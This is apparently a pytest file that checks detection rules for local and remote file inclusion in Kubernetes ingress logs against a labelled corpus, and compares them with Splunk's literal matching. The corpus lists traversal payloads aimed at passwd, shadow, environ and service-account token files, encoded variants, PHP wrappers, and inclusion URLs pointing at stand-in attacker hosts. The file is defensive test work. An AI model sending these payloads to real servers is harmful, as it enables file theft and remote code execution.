"""A small labelled corpus: every attack is found, no benign request is flagged.

The same corpus run through Splunk's literal logic shows what this port fixes: Splunk matched its
wildcard list against the raw request line (no decoding, so encoded and backslash attacks pass)
and called any URL holding a dotted quad a remote inclusion.
"""

from __future__ import annotations

import re
from fnmatch import fnmatchcase

from lambdas.detections.kubernetes import kubernetes_nginx_ingress_lfi as lfi
from lambdas.detections.kubernetes import kubernetes_nginx_ingress_rfi as rfi
from lambdas.detections.kubernetes.targets import load_paths
from tests.kubernetes.lines import access, run

# (target, label): "lfi", "rfi" or "benign".
CORPUS = [
    ("/index.php?page=../../../../etc/passwd", "lfi"),
    ("/index.php?page=..%2f..%2f..%2fetc%2fshadow", "lfi"),
    ("/view?file=%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron", "lfi"),
    ("/download?f=..\\x5C..\\x5C..\\x5Cwindows\\x5Cwin.ini", "lfi"),
    ("/x?f=/VAR/RUN/SECRETS/KUBERNETES.IO/SERVICEACCOUNT/TOKEN", "lfi"),
    ("/index.php?page=php://filter/convert.base64-encode/resource=config", "lfi"),
    ("/img?src=../../../../app/config/database.yml", "lfi"),
    ("/index.php?page=http://198.51.100.9/shell.txt", "rfi"),
    ("/index.php?page=https://evil.example/shell.txt", "rfi"),
    ("/view?tpl=HTTPS%3A%2F%2Fevil.example%2Fbackdoor.php", "rfi"),
    ("/view?tpl=//evil.example/x.php", "rfi"),
    ("/view?tpl=data://text/plain;base64,PD9waHA/Pg==", "rfi"),
    ("/login?next=../account", "benign"),
    ("/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&client_id=web", "benign"),
    ("/oauth/authorize?redirect_uri=http://127.0.0.1:8400/&client_id=cli", "benign"),
    ("/metrics/probe?target=10.0.0.12:9100", "benign"),
    ("/downloads/agent-10.2.0.1/linux/amd64", "benign"),
    ("/api/nodes/192.168.1.20/status", "benign"),
    ("/search?q=https://github.com/org/repo&lang=en", "benign"),
    ("/search?q=caf%C3%A9%20au%20lait", "benign"),
    ("/static/js/app.min.js?v=1.4.2", "benign"),
]


def ours(target: str) -> set[str]:
    """Which of our two detections flag the target."""
    found = {"lfi"} if run(lfi, access(target)) else set()
    return found | ({"rfi"} if run(rfi, access(target)) else set())


def splunk(target: str) -> set[str]:
    """Splunk's literal logic: wildcards on the raw request, any dotted quad in the URL."""
    request = f"GET {target} HTTP/1.1".lower()
    listed = any(fnmatchcase(request, f"*{path}*") for path in load_paths())
    quad = re.search(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}", target)
    return ({"lfi"} if listed else set()) | ({"rfi"} if quad else set())


def test_every_attack_is_found_by_its_detection_and_no_benign_request_is_flagged() -> None:
    wrong = {target: ours(target) for target, label in CORPUS if ours(target) != _expected(label)}
    assert wrong == {}


def test_splunks_literal_logic_misses_and_false_alarms_where_ours_does_not() -> None:
    wrong = {target for target, label in CORPUS if splunk(target) != _expected(label)}
    assert wrong == {
        # Missed: encoded, double-encoded and backslash traversal, wrappers, unlisted files.
        "/index.php?page=..%2f..%2f..%2fetc%2fshadow",
        "/view?file=%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron",
        "/download?f=..\\x5C..\\x5C..\\x5Cwindows\\x5Cwin.ini",
        "/x?f=/VAR/RUN/SECRETS/KUBERNETES.IO/SERVICEACCOUNT/TOKEN",
        "/index.php?page=php://filter/convert.base64-encode/resource=config",
        "/img?src=../../../../app/config/database.yml",
        # Missed: remote inclusions that name a host instead of an IP address.
        "/index.php?page=https://evil.example/shell.txt",
        "/view?tpl=HTTPS%3A%2F%2Fevil.example%2Fbackdoor.php",
        "/view?tpl=//evil.example/x.php",
        "/view?tpl=data://text/plain;base64,PD9waHA/Pg==",
        # False alarms: dotted quads in loopback sign-in, host:port, version strings, paths.
        "/oauth/authorize?redirect_uri=http://127.0.0.1:8400/&client_id=cli",
        "/metrics/probe?target=10.0.0.12:9100",
        "/downloads/agent-10.2.0.1/linux/amd64",
        "/api/nodes/192.168.1.20/status",
    }


def _expected(label: str) -> set[str]:
    """The detections a label expects."""
    return set() if label == "benign" else {label}
